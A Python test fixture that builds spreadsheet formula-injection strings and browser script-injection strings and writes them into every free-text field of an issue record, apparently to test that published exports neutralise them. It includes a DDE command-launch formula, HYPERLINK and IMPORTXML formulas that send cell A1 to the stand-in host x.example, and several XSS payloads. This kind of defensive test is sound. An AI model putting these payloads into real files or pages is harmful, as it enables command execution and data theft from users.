"""Texts that a spreadsheet would run, that a browser would run, and an issue that has them in every free text."""

import itertools
from collections.abc import Iterator
from dataclasses import fields, is_dataclass, replace
from typing import Any

from thucthi.publication.shapes import IssueData

_CALLS = (
    "cmd|' /C calc'!A0", "1+1", "SUM(A1:A9)", 'HYPERLINK("http://x.example?"&A1,"bấm")', "WEBSERVICE(A1)",
    'IMPORTXML(CONCAT("http://x.example/",A1),"//a")', "DDE(\"cmd\";\"/C calc\";\"x\")", "A1", "-2+3",
)  # fmt: skip
_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u00a0=",
    "\u200b=",
    "\ufeff=",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
)
FORMULAS = [
    *(start + call for start in _STARTS for call in _CALLS[:4]),
    *(f"={call}" for call in _CALLS[4:]),
    "\u2212 5", "\ufe63x", "\u202e=1+1", "+84 24 0000", "@SUM(1)", "\x00=1", "-", "=", "'=1",
]  # fmt: skip
SCRIPTS = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "]]>", "<!--", '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }}", "\u202eđảo", "&lt;", "\u2028", "<svg/onload=alert(1)>", "javascript:alert(1)",
    "\x07\x1b[31m", "\ufffe",
]  # fmt: skip
FREE = {
    "text", "product", "acceptance_criterion", "title", "deadline_text", "condition", "asked_what", "reason",
    "decision",
    "definition", "method", "limits", "source", "official_name", "short_name", "head_post", "lead_post",
    "evidence_required", "examiner", "wording_vi", "wording_en", "money_source", "group", "name", "issued_as",
}  # fmt: skip


def poisoned(data: IssueData, texts: list[str]) -> IssueData:
    """The same issue with one of the texts in each free field of its objects, by turns."""
    turns = itertools.cycle(texts)
    changed = {
        name: tuple(_poisoned(each, turns) for each in getattr(data, name))
        for name in ("tasks", "documents", "programmes", "organisations", "indicators", "obstacles", "corrections")
    }
    return replace(data, **changed)


def _poisoned(thing: Any, turns: Iterator[str]) -> Any:
    if isinstance(thing, tuple):
        return tuple(_poisoned(each, turns) for each in thing)
    if not is_dataclass(thing) or isinstance(thing, type):
        return thing
    new: dict[str, Any] = {}
    for field in fields(thing):
        value = getattr(thing, field.name)
        if isinstance(value, str):
            new[field.name] = next(turns) if field.name in FREE and value else value
        else:
            new[field.name] = _poisoned(value, turns)
    return replace(thing, **new)
